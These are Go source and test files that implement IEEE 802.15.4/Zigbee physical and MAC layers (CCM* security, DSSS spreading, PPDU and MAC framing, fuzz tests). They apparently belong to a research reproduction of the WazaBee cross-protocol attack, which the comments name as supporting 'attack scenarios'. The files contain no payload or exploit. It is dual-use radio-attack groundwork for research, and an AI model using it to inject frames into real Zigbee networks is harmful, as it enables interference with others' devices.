	body := secured[:len(secured)-m]
	encTag := secured[len(secured)-m:]
	tag := ctrCryptBlock0(block, nonce, encTag)

	var payload []byte
	var auth, plain []byte
	if level.Encrypted() {
		payload = ctrCrypt(block, nonce, body)
		auth, plain = header, payload
	} else {
		payload = append([]byte{}, body...)
		auth = make([]byte, 0, len(header)+len(body))
		auth = append(auth, header...)
		auth = append(auth, body...)
		plain = nil
	}
	want := ccmAuthTag(block, nonce, auth, plain, m)
	if subtle.ConstantTimeCompare(tag, want) != 1 {
		return nil, ErrAuthFailed
	}
	return payload, nil
}

// ccmAuthTag computes the CBC-MAC over B0 | encoded(auth) | plain per
// RFC 3610 / CCM*.
func ccmAuthTag(block cipher.Block, nonce [13]byte, auth, plain []byte, micLen int) []byte {
	// B0: flags | nonce | message length (2 bytes, since len(nonce)=13).
	b0 := make([]byte, 16)
	flags := byte(0)
	if len(auth) > 0 {
		flags |= 0x40
	}
	// M' = (micLen-2)/2 in bits 5..3; CCM* allows micLen 0, encoded as 0.
	if micLen > 0 {
		flags |= byte((micLen-2)/2) << 3
	}
	flags |= 1 // L' = L-1 = 1 for a 2-byte length field
	b0[0] = flags
	copy(b0[1:14], nonce[:])
	binary.BigEndian.PutUint16(b0[14:16], uint16(len(plain)))

	mac := newCBCMAC(block)
	mac.write(b0)

	if len(auth) > 0 {
		// Associated data is prefixed with its 2-byte length and
		// padded to a block boundary.
		hdr := make([]byte, 2, 2+len(auth))
		binary.BigEndian.PutUint16(hdr, uint16(len(auth)))
		hdr = append(hdr, auth...)
		mac.writePadded(hdr)
	}
	if len(plain) > 0 {
		mac.writePadded(plain)
	}
	tag := mac.sum()
	return tag[:micLen]
}

// ctrCrypt encrypts/decrypts data with AES-CTR using counter blocks
// A1, A2, … (A0 is reserved for the tag).
func ctrCrypt(block cipher.Block, nonce [13]byte, data []byte) []byte {
	out := make([]byte, len(data))
	var a, s [16]byte
	a[0] = 1 // flags: L' = 1
	copy(a[1:14], nonce[:])
	for i := 0; i < len(data); i += 16 {
		counter := uint16(i/16) + 1
		binary.BigEndian.PutUint16(a[14:16], counter)
		block.Encrypt(s[:], a[:])
		for j := i; j < i+16 && j < len(data); j++ {
			out[j] = data[j] ^ s[j-i]
		}
	}
	return out
}

// ctrCryptBlock0 encrypts/decrypts the authentication tag with counter
// block A0.
func ctrCryptBlock0(block cipher.Block, nonce [13]byte, tag []byte) []byte {
	var a, s [16]byte
	a[0] = 1
	copy(a[1:14], nonce[:])
	block.Encrypt(s[:], a[:])
	out := make([]byte, len(tag))
	for i := range tag {
		out[i] = tag[i] ^ s[i]
	}
	return out
}

// cbcMAC is a minimal AES-CBC-MAC for CCM's authentication pass.
type cbcMAC struct {
	block cipher.Block
	x     [16]byte
}

func newCBCMAC(block cipher.Block) *cbcMAC {
	return &cbcMAC{block: block}
}

// write absorbs exactly one or more whole blocks.
func (m *cbcMAC) write(p []byte) {
	for i := 0; i+16 <= len(p); i += 16 {
		for j := 0; j < 16; j++ {
			m.x[j] ^= p[i+j]
		}
		m.block.Encrypt(m.x[:], m.x[:])
	}
}

// writePadded absorbs data zero-padded to a block boundary.
func (m *cbcMAC) writePadded(p []byte) {
	whole := len(p) / 16 * 16
	m.write(p[:whole])
	if rest := p[whole:]; len(rest) > 0 {
		var last [16]byte
		copy(last[:], rest)
		m.write(last[:])
	}
}

func (m *cbcMAC) sum() [16]byte {
	return m.x
}
