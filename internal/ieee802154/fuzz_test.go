package ieee802154

import (
	"bytes"
	"testing"
)

// FuzzParseMACFrame hunts for panics and encode/parse asymmetries in the
// MAC frame codec fed with arbitrary PSDUs.
func FuzzParseMACFrame(f *testing.F) {
	seed, _ := NewDataFrame(1, 0x1234, 0x0042, 0x0063, []byte{1, 2, 3}, true).Encode()
	f.Add(seed)
	f.Add([]byte{})
	f.Add([]byte{0x00, 0x00, 0x00, 0x00, 0x00})
	f.Fuzz(func(t *testing.T, psdu []byte) {
		frame, err := ParseMACFrame(psdu)
		if err != nil {
			return
		}
		// Whatever parses must re-encode and re-parse to the same
		// frame.
		out, err := frame.Encode()
		if err != nil {
			t.Fatalf("parsed frame does not re-encode: %v", err)
		}
		back, err := ParseMACFrame(out)
		if err != nil {
			t.Fatalf("re-encoded frame does not parse: %v", err)
		}
		if back.Type != frame.Type || back.Seq != frame.Seq ||
			back.DestAddr != frame.DestAddr || back.SrcAddr != frame.SrcAddr ||
			!bytes.Equal(back.Payload, frame.Payload) {
			t.Fatalf("round trip diverged: %+v vs %+v", frame, back)
		}
	})
}

// FuzzParsePPDU exercises the PHY frame parser.
func FuzzParsePPDU(f *testing.F) {
	ppdu, _ := NewPPDU([]byte{1, 2, 3})
	f.Add(ppdu.Bytes())
	f.Add([]byte{0, 0, 0, 0, SFD, 0})
	f.Fuzz(func(t *testing.T, raw []byte) {
		p, err := ParsePPDU(raw)
		if err != nil {
			return
		}
		if len(p.PSDU) > MaxPSDULength {
			t.Fatalf("parser accepted oversized PSDU (%d)", len(p.PSDU))
		}
	})
}

// FuzzOpenFrame feeds the CCM* opener hostile ciphertexts: it must never
// panic and never authenticate garbage.
func FuzzOpenFrame(f *testing.F) {
	key := []byte("0123456789abcdef")
	nonce := Nonce(7, 1, SecEncMIC32)
	sealed, _ := SecureFrame(key, nonce, SecEncMIC32, []byte{1}, []byte("x"))
	f.Add(sealed)
	f.Fuzz(func(t *testing.T, secured []byte) {
		payload, err := OpenFrame(key, nonce, SecEncMIC32, []byte{1}, secured)
		if err != nil {
			return
		}
		// Anything that authenticates must round-trip through
		// SecureFrame to the same ciphertext.
		again, err := SecureFrame(key, nonce, SecEncMIC32, []byte{1}, payload)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(again, secured) {
			t.Fatalf("authenticated ciphertext is not canonical")
		}
	})
}
