// Package ieee802154 implements the IEEE 802.15.4 O-QPSK physical layer in
// the 2.4 GHz ISM band (the PHY Zigbee runs on) plus the MAC framing needed
// by the attack scenarios: DSSS spreading with the 16 PN sequences, O-QPSK
// modulation with half-sine pulse shaping, a noncoherent MSK-approximation
// demodulator, PPDU framing and MAC frame encode/decode.
package ieee802154

import (
	"fmt"

	"wazabee/internal/bitstream"
)

// ChipsPerSymbol is the DSSS spreading factor: each 4-bit symbol is
// replaced by a 32-chip pseudo-random noise sequence.
const ChipsPerSymbol = 32

// SymbolsPerByte is the number of 4-bit symbols per octet (low nibble is
// transmitted first).
const SymbolsPerByte = 2

// pnTable is Table I of the paper (identical to IEEE 802.15.4-2015 Table
// 12-1): row k is the chip sequence c0..c31 for data symbol k. The row
// labels in the paper are written b0b1b2b3, i.e. least significant bit
// first, so the rows below are in symbol order 0..15.
var pnTable = mustParsePNTable([...]string{
	"11011001 11000011 01010010 00101110", // 0  (0000)
	"11101101 10011100 00110101 00100010", // 1  (1000)
	"00101110 11011001 11000011 01010010", // 2  (0100)
	"00100010 11101101 10011100 00110101", // 3  (1100)
	"01010010 00101110 11011001 11000011", // 4  (0010)
	"00110101 00100010 11101101 10011100", // 5  (1010)
	"11000011 01010010 00101110 11011001", // 6  (0110)
	"10011100 00110101 00100010 11101101", // 7  (1110)
	"10001100 10010110 00000111 01111011", // 8  (0001)
	"10111000 11001001 01100000 01110111", // 9  (1001)
	"01111011 10001100 10010110 00000111", // 10 (0101)
	"01110111 10111000 11001001 01100000", // 11 (1101)
	"00000111 01111011 10001100 10010110", // 12 (0011)
	"01100000 01110111 10111000 11001001", // 13 (1011)
	"10010110 00000111 01111011 10001100", // 14 (0111)
	"11001001 01100000 01110111 10111000", // 15 (1111)
})

func mustParsePNTable(rows [16]string) [16]bitstream.Bits {
	var table [16]bitstream.Bits
	for i, row := range rows {
		bits, err := bitstream.ParseBits(row)
		if err != nil {
			panic(fmt.Sprintf("ieee802154: bad PN table row %d: %v", i, err))
		}
		if len(bits) != ChipsPerSymbol {
			panic(fmt.Sprintf("ieee802154: PN row %d has %d chips", i, len(bits)))
		}
		table[i] = bits
	}
	return table
}

// PNSequence returns the 32-chip spreading sequence for a data symbol
// (0..15). The returned slice is a copy and safe to modify.
func PNSequence(symbol int) (bitstream.Bits, error) {
	if symbol < 0 || symbol > 15 {
		return nil, fmt.Errorf("ieee802154: symbol %d out of range [0,15]", symbol)
	}
	return bitstream.Clone(pnTable[symbol]), nil
}

// PNSequences returns a copy of the whole correspondence table (Table I),
// indexed by symbol value.
func PNSequences() [16]bitstream.Bits {
	var out [16]bitstream.Bits
	for i := range pnTable {
		out[i] = bitstream.Clone(pnTable[i])
	}
	return out
}

// ClosestSymbol returns the data symbol whose PN sequence has the smallest
// Hamming distance to the received 32-chip block, along with that distance.
// This is the standard despreading decision; soft-decision variants do not
// change the behaviour reproduced here.
func ClosestSymbol(chips bitstream.Bits) (symbol, distance int, err error) {
	if len(chips) != ChipsPerSymbol {
		return 0, 0, fmt.Errorf("ieee802154: chip block length %d, want %d", len(chips), ChipsPerSymbol)
	}
	bestSym, bestDist := 0, ChipsPerSymbol+1
	for s := 0; s < 16; s++ {
		d, derr := bitstream.HammingDistance(chips, pnTable[s])
		if derr != nil {
			return 0, 0, derr
		}
		if d < bestDist {
			bestDist = d
			bestSym = s
		}
	}
	return bestSym, bestDist, nil
}
