package ieee802154

import (
	"fmt"

	"wazabee/internal/bitstream"
)

// Spread applies direct sequence spread spectrum to a byte sequence: each
// octet is split into two 4-bit symbols (least significant nibble first)
// and every symbol is substituted by its 32-chip PN sequence.
func Spread(data []byte) bitstream.Bits {
	return AppendSpread(make(bitstream.Bits, 0, len(data)*SymbolsPerByte*ChipsPerSymbol), data)
}

// AppendSpread appends the DSSS chip expansion of data to dst and
// returns the extended slice — the allocation-free form of Spread for
// pooled transmit scratch buffers.
func AppendSpread(dst bitstream.Bits, data []byte) bitstream.Bits {
	for _, b := range data {
		dst = append(dst, pnTable[b&0x0f]...)
		dst = append(dst, pnTable[b>>4]...)
	}
	return dst
}

// SpreadSymbols expands a symbol sequence (values 0..15) into chips.
func SpreadSymbols(symbols []byte) (bitstream.Bits, error) {
	chips := make(bitstream.Bits, 0, len(symbols)*ChipsPerSymbol)
	for i, s := range symbols {
		if s > 15 {
			return nil, fmt.Errorf("ieee802154: symbol %d at index %d out of range", s, i)
		}
		chips = append(chips, pnTable[s]...)
	}
	return chips, nil
}

// Despread recovers the byte sequence from a chip stream using
// minimum-Hamming-distance symbol decisions. The chip stream length must be
// a whole number of bytes (64 chips each). It also reports the worst
// per-symbol chip distance observed, a quality indicator used by the
// experiment harness.
func Despread(chips bitstream.Bits) (data []byte, worstDistance int, err error) {
	chipsPerByte := SymbolsPerByte * ChipsPerSymbol
	if len(chips)%chipsPerByte != 0 {
		return nil, 0, fmt.Errorf("ieee802154: chip stream length %d is not a whole number of octets", len(chips))
	}
	data = make([]byte, 0, len(chips)/chipsPerByte)
	for i := 0; i < len(chips); i += chipsPerByte {
		lo, dLo, err := ClosestSymbol(chips[i : i+ChipsPerSymbol])
		if err != nil {
			return nil, 0, err
		}
		hi, dHi, err := ClosestSymbol(chips[i+ChipsPerSymbol : i+chipsPerByte])
		if err != nil {
			return nil, 0, err
		}
		if dLo > worstDistance {
			worstDistance = dLo
		}
		if dHi > worstDistance {
			worstDistance = dHi
		}
		data = append(data, byte(lo)|byte(hi)<<4)
	}
	return data, worstDistance, nil
}

// ChipTransitions returns the MSK transition bits of a chip stream: bit
// i-1 is 1 when the O-QPSK (half-sine) signal rotates counter-clockwise
// (+π/2) while modulating chip i, and 0 for a clockwise rotation.
//
// This is the physical-layer fact WazaBee exploits. The closed form follows
// from the half-sine pulse geometry: at even chip boundaries the signal
// sits on the Q axis and at odd boundaries on the I axis, so the rotation
// while modulating chip i is
//
//	i even: transitions[i-1] = c[i] XOR c[i-1]
//	i odd:  transitions[i-1] = NOT (c[i] XOR c[i-1])
//
// The paper derives the same mapping as a four-state machine (Algorithm 1,
// implemented verbatim in internal/core); the two are proven equivalent by
// tests there. A stream of n chips yields n-1 transition bits.
func ChipTransitions(chips bitstream.Bits) bitstream.Bits {
	if len(chips) < 2 {
		return nil
	}
	out := make(bitstream.Bits, len(chips)-1)
	for i := 1; i < len(chips); i++ {
		x := chips[i] ^ chips[i-1]
		if i%2 == 1 {
			x ^= 1
		}
		out[i-1] = x
	}
	return out
}
