package ieee802154

import (
	"bytes"
	"fmt"
)

const (
	// PreambleLength is the number of zero octets opening every PPDU.
	PreambleLength = 4

	// SFD is the start-of-frame delimiter octet. IEEE 802.15.4-2015
	// specifies the value 0xA7 (the paper prints it as 0x7A because it
	// writes the nibbles in transmission order: the low nibble 0x7 is
	// spread first).
	SFD = 0xa7

	// MaxPSDULength is the largest PHY payload (aMaxPHYPacketSize).
	MaxPSDULength = 127
)

// PPDU is a PHY protocol data unit: the synchronisation header, a length
// byte (PHR) and the PHY service data unit carrying the MAC frame.
type PPDU struct {
	// PSDU is the PHY payload, including the trailing two-byte FCS.
	PSDU []byte
}

// NewPPDU validates the payload length and wraps it in a PPDU.
func NewPPDU(psdu []byte) (*PPDU, error) {
	if len(psdu) > MaxPSDULength {
		return nil, fmt.Errorf("ieee802154: PSDU length %d exceeds %d", len(psdu), MaxPSDULength)
	}
	cp := make([]byte, len(psdu))
	copy(cp, psdu)
	return &PPDU{PSDU: cp}, nil
}

// Bytes serialises the PPDU into the exact octet sequence handed to the
// spreader: preamble, SFD, PHR (frame length) and PSDU.
func (p *PPDU) Bytes() []byte {
	return p.AppendBytes(make([]byte, 0, PreambleLength+2+len(p.PSDU)))
}

// AppendBytes is the appending form of Bytes for pooled scratch
// buffers.
func (p *PPDU) AppendBytes(dst []byte) []byte {
	for i := 0; i < PreambleLength; i++ {
		dst = append(dst, 0)
	}
	dst = append(dst, SFD, byte(len(p.PSDU)))
	dst = append(dst, p.PSDU...)
	return dst
}

// ParsePPDU decodes an octet sequence starting at the preamble back into a
// PPDU, validating the synchronisation header and length field. It accepts
// trailing garbage after the PSDU, as a receiver that stops after
// frame-length octets would.
func ParsePPDU(raw []byte) (*PPDU, error) {
	header := PreambleLength + 2
	if len(raw) < header {
		return nil, fmt.Errorf("ieee802154: truncated PPDU header (%d bytes)", len(raw))
	}
	if !bytes.Equal(raw[:PreambleLength], make([]byte, PreambleLength)) {
		return nil, fmt.Errorf("ieee802154: invalid preamble % x", raw[:PreambleLength])
	}
	if raw[PreambleLength] != SFD {
		return nil, fmt.Errorf("ieee802154: invalid SFD %#02x", raw[PreambleLength])
	}
	length := int(raw[PreambleLength+1])
	if length > MaxPSDULength {
		return nil, fmt.Errorf("ieee802154: PHR length %d exceeds %d", length, MaxPSDULength)
	}
	if len(raw) < header+length {
		return nil, fmt.Errorf("ieee802154: PSDU truncated: have %d, want %d", len(raw)-header, length)
	}
	psdu := make([]byte, length)
	copy(psdu, raw[header:header+length])
	return &PPDU{PSDU: psdu}, nil
}
