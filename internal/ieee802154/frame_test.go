package ieee802154

import (
	"bytes"
	"errors"
	"testing"
	"testing/quick"
)

func TestPPDUBytesLayout(t *testing.T) {
	ppdu, err := NewPPDU([]byte{0xde, 0xad})
	if err != nil {
		t.Fatal(err)
	}
	got := ppdu.Bytes()
	want := []byte{0, 0, 0, 0, SFD, 2, 0xde, 0xad}
	if !bytes.Equal(got, want) {
		t.Errorf("PPDU bytes = % x, want % x", got, want)
	}
}

func TestNewPPDULength(t *testing.T) {
	if _, err := NewPPDU(make([]byte, MaxPSDULength+1)); err == nil {
		t.Error("expected error for oversized PSDU")
	}
	if _, err := NewPPDU(make([]byte, MaxPSDULength)); err != nil {
		t.Errorf("max-size PSDU rejected: %v", err)
	}
}

func TestPPDUCopiesPayload(t *testing.T) {
	payload := []byte{1, 2, 3}
	ppdu, err := NewPPDU(payload)
	if err != nil {
		t.Fatal(err)
	}
	payload[0] = 99
	if ppdu.PSDU[0] == 99 {
		t.Error("NewPPDU aliases caller's slice")
	}
}

func TestParsePPDURoundTrip(t *testing.T) {
	f := func(psdu []byte) bool {
		if len(psdu) > MaxPSDULength {
			psdu = psdu[:MaxPSDULength]
		}
		ppdu, err := NewPPDU(psdu)
		if err != nil {
			return false
		}
		back, err := ParsePPDU(ppdu.Bytes())
		return err == nil && bytes.Equal(back.PSDU, psdu)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestParsePPDUErrors(t *testing.T) {
	tests := []struct {
		name string
		give []byte
	}{
		{name: "truncated header", give: []byte{0, 0, 0}},
		{name: "bad preamble", give: []byte{1, 0, 0, 0, SFD, 0}},
		{name: "bad sfd", give: []byte{0, 0, 0, 0, 0x55, 0}},
		{name: "truncated psdu", give: []byte{0, 0, 0, 0, SFD, 5, 1, 2}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := ParsePPDU(tt.give); err == nil {
				t.Error("expected parse error")
			}
		})
	}
}

func TestParsePPDUIgnoresTrailingBytes(t *testing.T) {
	ppdu, _ := NewPPDU([]byte{0xaa})
	raw := append(ppdu.Bytes(), 0xff, 0xff)
	back, err := ParsePPDU(raw)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(back.PSDU, []byte{0xaa}) {
		t.Errorf("PSDU = % x", back.PSDU)
	}
}

func TestMACFrameRoundTrip(t *testing.T) {
	tests := []struct {
		name string
		give *MACFrame
	}{
		{name: "data intra-pan", give: NewDataFrame(7, 0x1234, 0x0042, 0x0063, []byte{0x01, 0x19}, true)},
		{name: "beacon", give: NewBeacon(3, 0x1234, 0x0042)},
		{name: "beacon request", give: NewBeaconRequest(9)},
		{name: "ack", give: NewAck(7)},
		{name: "uncompressed addressing", give: &MACFrame{
			Type: FrameData, Seq: 1,
			DestMode: AddrShort, DestPAN: 0x1111, DestAddr: 0x2222,
			SrcMode: AddrShort, SrcPAN: 0x3333, SrcAddr: 0x4444,
			Payload: []byte{5},
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			psdu, err := tt.give.Encode()
			if err != nil {
				t.Fatal(err)
			}
			got, err := ParseMACFrame(psdu)
			if err != nil {
				t.Fatal(err)
			}
			if got.Type != tt.give.Type || got.Seq != tt.give.Seq {
				t.Errorf("type/seq = %v/%d, want %v/%d", got.Type, got.Seq, tt.give.Type, tt.give.Seq)
			}
			if got.DestMode != tt.give.DestMode || got.DestAddr != tt.give.DestAddr {
				t.Errorf("dest = %d/%#x, want %d/%#x", got.DestMode, got.DestAddr, tt.give.DestMode, tt.give.DestAddr)
			}
			if got.SrcMode != tt.give.SrcMode || got.SrcAddr != tt.give.SrcAddr {
				t.Errorf("src = %d/%#x, want %d/%#x", got.SrcMode, got.SrcAddr, tt.give.SrcMode, tt.give.SrcAddr)
			}
			if !bytes.Equal(got.Payload, tt.give.Payload) {
				t.Errorf("payload = % x, want % x", got.Payload, tt.give.Payload)
			}
			if got.AckRequest != tt.give.AckRequest {
				t.Error("ack-request flag lost")
			}
		})
	}
}

func TestMACFramePANCompression(t *testing.T) {
	frame := NewDataFrame(1, 0x1234, 0x0042, 0x0063, nil, false)
	psdu, err := frame.Encode()
	if err != nil {
		t.Fatal(err)
	}
	got, err := ParseMACFrame(psdu)
	if err != nil {
		t.Fatal(err)
	}
	if got.SrcPAN != 0x1234 {
		t.Errorf("compressed source PAN = %#x, want dest PAN 0x1234", got.SrcPAN)
	}
	// Compressed frame must be two bytes shorter than uncompressed.
	frame.PANCompression = false
	frame.SrcPAN = 0x1234
	long, err := frame.Encode()
	if err != nil {
		t.Fatal(err)
	}
	if len(long) != len(psdu)+2 {
		t.Errorf("uncompressed length %d, compressed %d, want +2", len(long), len(psdu))
	}
}

func TestMACFrameEncodeErrors(t *testing.T) {
	if _, err := (&MACFrame{Type: 9}).Encode(); err == nil {
		t.Error("expected error for invalid frame type")
	}
	if _, err := (&MACFrame{Type: FrameData, PANCompression: true}).Encode(); err == nil {
		t.Error("expected error for compression without addresses")
	}
	if _, err := (&MACFrame{Type: FrameData, DestMode: 3}).Encode(); err == nil {
		t.Error("expected error for extended addressing")
	}
	big := NewDataFrame(1, 1, 2, 3, make([]byte, 125), false)
	if _, err := big.Encode(); err == nil {
		t.Error("expected error for frame exceeding aMaxPHYPacketSize")
	}
}

func TestParseMACFrameFCSError(t *testing.T) {
	psdu, err := NewDataFrame(1, 0x1234, 2, 3, []byte{42}, false).Encode()
	if err != nil {
		t.Fatal(err)
	}
	psdu[4] ^= 0xff
	_, err = ParseMACFrame(psdu)
	var fcsErr *FCSError
	if !errors.As(err, &fcsErr) {
		t.Fatalf("error = %v, want *FCSError", err)
	}
	if fcsErr.Length != len(psdu) {
		t.Errorf("FCSError length = %d, want %d", fcsErr.Length, len(psdu))
	}
}

func TestParseMACFrameTruncated(t *testing.T) {
	if _, err := ParseMACFrame([]byte{1, 2}); err == nil {
		t.Error("expected error for short PSDU")
	}
}

func TestAssociationFramesRoundTrip(t *testing.T) {
	req := NewAssociationRequest(3, 0x1234, 0x0042, 0x8e)
	psdu, err := req.Encode()
	if err != nil {
		t.Fatal(err)
	}
	got, err := ParseMACFrame(psdu)
	if err != nil {
		t.Fatal(err)
	}
	if got.SrcAddr != NoShortAddress {
		t.Errorf("request source = %#04x, want NoShortAddress", got.SrcAddr)
	}
	if CommandID(got.Payload[0]) != CmdAssociationRequest || got.Payload[1] != 0x8e {
		t.Errorf("request payload = % x", got.Payload)
	}

	resp := NewAssociationResponse(4, 0x1234, NoShortAddress, 0x0100, AssocStatusSuccess)
	psdu, err = resp.Encode()
	if err != nil {
		t.Fatal(err)
	}
	back, err := ParseMACFrame(psdu)
	if err != nil {
		t.Fatal(err)
	}
	assigned, status, err := ParseAssociationResponse(back.Payload)
	if err != nil {
		t.Fatal(err)
	}
	if assigned != 0x0100 || status != AssocStatusSuccess {
		t.Errorf("response = %#04x/%d", assigned, status)
	}
}

func TestParseAssociationResponseErrors(t *testing.T) {
	if _, _, err := ParseAssociationResponse([]byte{1, 2}); err == nil {
		t.Error("expected error for short payload")
	}
	if _, _, err := ParseAssociationResponse([]byte{byte(CmdBeaconRequest), 0, 1, 0}); err == nil {
		t.Error("expected error for wrong command")
	}
}

func TestFrameTypeString(t *testing.T) {
	tests := []struct {
		give FrameType
		want string
	}{
		{FrameBeacon, "beacon"},
		{FrameData, "data"},
		{FrameAck, "ack"},
		{FrameCommand, "command"},
		{FrameType(6), "type(6)"},
	}
	for _, tt := range tests {
		if got := tt.give.String(); got != tt.want {
			t.Errorf("FrameType(%d).String() = %q, want %q", tt.give, got, tt.want)
		}
	}
}

func TestChannelFrequency(t *testing.T) {
	tests := []struct {
		channel int
		want    float64
	}{
		{11, 2405}, {14, 2420}, {20, 2450}, {26, 2480},
	}
	for _, tt := range tests {
		got, err := ChannelFrequencyMHz(tt.channel)
		if err != nil {
			t.Fatal(err)
		}
		if got != tt.want {
			t.Errorf("channel %d frequency = %g, want %g", tt.channel, got, tt.want)
		}
	}
	if _, err := ChannelFrequencyMHz(10); err == nil {
		t.Error("expected error for channel 10")
	}
	if _, err := ChannelFrequencyMHz(27); err == nil {
		t.Error("expected error for channel 27")
	}
}

func TestChannelsList(t *testing.T) {
	ch := Channels()
	if len(ch) != 16 || ch[0] != 11 || ch[15] != 26 {
		t.Errorf("Channels() = %v", ch)
	}
}
