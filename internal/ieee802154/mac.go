package ieee802154

import (
	"encoding/binary"
	"fmt"

	"wazabee/internal/bitstream"
)

// FrameType enumerates the IEEE 802.15.4 MAC frame types.
type FrameType uint8

const (
	FrameBeacon FrameType = iota
	FrameData
	FrameAck
	FrameCommand
)

// String implements fmt.Stringer for diagnostics.
func (t FrameType) String() string {
	switch t {
	case FrameBeacon:
		return "beacon"
	case FrameData:
		return "data"
	case FrameAck:
		return "ack"
	case FrameCommand:
		return "command"
	default:
		return fmt.Sprintf("type(%d)", uint8(t))
	}
}

// AddrMode enumerates the MAC addressing modes supported here.
type AddrMode uint8

const (
	// AddrNone omits the address field.
	AddrNone AddrMode = 0
	// AddrShort uses 16-bit short addresses, the mode the scenario
	// networks use (0x0042, 0x0063).
	AddrShort AddrMode = 2
)

// CommandID enumerates MAC command identifiers used by the scenarios.
type CommandID uint8

const (
	// CmdAssociationRequest asks a coordinator to admit a new device.
	CmdAssociationRequest CommandID = 0x01
	// CmdAssociationResponse carries the assigned short address.
	CmdAssociationResponse CommandID = 0x02
	// CmdBeaconRequest solicits beacons during active scanning.
	CmdBeaconRequest CommandID = 0x07
)

// Association response status codes.
const (
	AssocStatusSuccess       = 0x00
	AssocStatusPANAtCapacity = 0x01
	AssocStatusDenied        = 0x02
)

// BroadcastPAN and BroadcastAddr are the 0xFFFF broadcast identifiers;
// NoShortAddress (0xFFFE) marks a device that has not yet been assigned
// a short address.
const (
	BroadcastPAN   = 0xffff
	BroadcastAddr  = 0xffff
	NoShortAddress = 0xfffe
)

// MACFrame models a MAC protocol data unit with short addressing. Extended
// (64-bit) addressing is not needed by any reproduced experiment.
type MACFrame struct {
	Type           FrameType
	Security       bool
	FramePending   bool
	AckRequest     bool
	PANCompression bool
	Seq            uint8

	DestMode AddrMode
	DestPAN  uint16
	DestAddr uint16

	SrcMode AddrMode
	SrcPAN  uint16
	SrcAddr uint16

	Payload []byte
}

// Encode serialises the frame into a PSDU: MHR, payload and the two-byte
// FCS computed over everything before it.
func (f *MACFrame) Encode() ([]byte, error) {
	if f.Type > FrameCommand {
		return nil, fmt.Errorf("ieee802154: invalid frame type %d", f.Type)
	}
	if err := checkAddrMode(f.DestMode); err != nil {
		return nil, err
	}
	if err := checkAddrMode(f.SrcMode); err != nil {
		return nil, err
	}
	if f.PANCompression && (f.DestMode == AddrNone || f.SrcMode == AddrNone) {
		return nil, fmt.Errorf("ieee802154: PAN ID compression requires both addresses")
	}

	fcf := uint16(f.Type)
	if f.Security {
		fcf |= 1 << 3
	}
	if f.FramePending {
		fcf |= 1 << 4
	}
	if f.AckRequest {
		fcf |= 1 << 5
	}
	if f.PANCompression {
		fcf |= 1 << 6
	}
	fcf |= uint16(f.DestMode) << 10
	fcf |= uint16(f.SrcMode) << 14

	out := make([]byte, 0, 11+len(f.Payload)+2)
	out = binary.LittleEndian.AppendUint16(out, fcf)
	out = append(out, f.Seq)
	if f.DestMode == AddrShort {
		out = binary.LittleEndian.AppendUint16(out, f.DestPAN)
		out = binary.LittleEndian.AppendUint16(out, f.DestAddr)
	}
	if f.SrcMode == AddrShort {
		if !f.PANCompression {
			out = binary.LittleEndian.AppendUint16(out, f.SrcPAN)
		}
		out = binary.LittleEndian.AppendUint16(out, f.SrcAddr)
	}
	out = append(out, f.Payload...)

	fcs := bitstream.FCS16Bytes(bitstream.FCS16(out))
	out = append(out, fcs[0], fcs[1])
	if len(out) > MaxPSDULength {
		return nil, fmt.Errorf("ieee802154: encoded frame length %d exceeds %d", len(out), MaxPSDULength)
	}
	return out, nil
}

// ParseMACFrame decodes a PSDU (including FCS) into a MACFrame. The FCS is
// verified; a mismatch returns FCSError so callers can distinguish
// corruption from malformed headers.
func ParseMACFrame(psdu []byte) (*MACFrame, error) {
	if len(psdu) < 5 { // FCF + seq + FCS
		return nil, fmt.Errorf("ieee802154: PSDU too short (%d bytes)", len(psdu))
	}
	if !bitstream.CheckFCS(psdu) {
		return nil, &FCSError{Length: len(psdu)}
	}
	body := psdu[:len(psdu)-2]

	fcf := binary.LittleEndian.Uint16(body[0:2])
	f := &MACFrame{
		Type:           FrameType(fcf & 0x7),
		Security:       fcf&(1<<3) != 0,
		FramePending:   fcf&(1<<4) != 0,
		AckRequest:     fcf&(1<<5) != 0,
		PANCompression: fcf&(1<<6) != 0,
		Seq:            body[2],
		DestMode:       AddrMode((fcf >> 10) & 0x3),
		SrcMode:        AddrMode((fcf >> 14) & 0x3),
	}
	if err := checkAddrMode(f.DestMode); err != nil {
		return nil, err
	}
	if err := checkAddrMode(f.SrcMode); err != nil {
		return nil, err
	}

	off := 3
	need := func(n int) error {
		if off+n > len(body) {
			return fmt.Errorf("ieee802154: truncated addressing fields")
		}
		return nil
	}
	if f.DestMode == AddrShort {
		if err := need(4); err != nil {
			return nil, err
		}
		f.DestPAN = binary.LittleEndian.Uint16(body[off:])
		f.DestAddr = binary.LittleEndian.Uint16(body[off+2:])
		off += 4
	}
	if f.SrcMode == AddrShort {
		if f.PANCompression {
			if err := need(2); err != nil {
				return nil, err
			}
			f.SrcPAN = f.DestPAN
			f.SrcAddr = binary.LittleEndian.Uint16(body[off:])
			off += 2
		} else {
			if err := need(4); err != nil {
				return nil, err
			}
			f.SrcPAN = binary.LittleEndian.Uint16(body[off:])
			f.SrcAddr = binary.LittleEndian.Uint16(body[off+2:])
			off += 4
		}
	}
	f.Payload = make([]byte, len(body)-off)
	copy(f.Payload, body[off:])
	return f, nil
}

// FCSError reports a frame whose checksum did not verify — the "received
// with integrity corruption" class of Table III.
type FCSError struct {
	Length int
}

func (e *FCSError) Error() string {
	return fmt.Sprintf("ieee802154: FCS mismatch on %d-byte PSDU", e.Length)
}

func checkAddrMode(m AddrMode) error {
	if m != AddrNone && m != AddrShort {
		return fmt.Errorf("ieee802154: unsupported addressing mode %d", m)
	}
	return nil
}

// NewBeaconRequest builds the broadcast beacon-request command used by
// active scanning (scenario B step 1).
func NewBeaconRequest(seq uint8) *MACFrame {
	return &MACFrame{
		Type:     FrameCommand,
		Seq:      seq,
		DestMode: AddrShort,
		DestPAN:  BroadcastPAN,
		DestAddr: BroadcastAddr,
		SrcMode:  AddrNone,
		Payload:  []byte{byte(CmdBeaconRequest)},
	}
}

// NewBeacon builds a minimal beacon frame advertising a PAN coordinator, as
// sent in response to a beacon request on a beacon-enabled-less network.
func NewBeacon(seq uint8, pan, coordAddr uint16) *MACFrame {
	// Superframe specification: BO=SO=15 (non-beacon-enabled), PAN
	// coordinator bit set, association permitted.
	const superframeSpec = 0xcfff
